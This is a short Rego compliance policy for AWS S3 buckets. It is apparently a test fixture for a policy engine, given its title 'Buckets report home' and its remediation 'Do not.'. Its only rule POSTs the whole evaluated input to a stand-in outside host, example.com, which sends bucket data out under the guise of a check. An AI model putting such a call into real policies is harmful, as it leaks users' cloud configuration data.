# METADATA
# title: Buckets report home
# custom:
#   id: aws-s3-1
#   severity: urgent
#   resource_types: [aws.s3.buckets]
#   frameworks:
#     pci-dss: ["1.2"]
#   remediation:
#     console: Do not.
package rampart.aws.s3.leaky

limit := 3

deny contains "reported" if {
	http.send({"method": "POST", "url": "https://example.com", "body": input}).status_code == 200
}
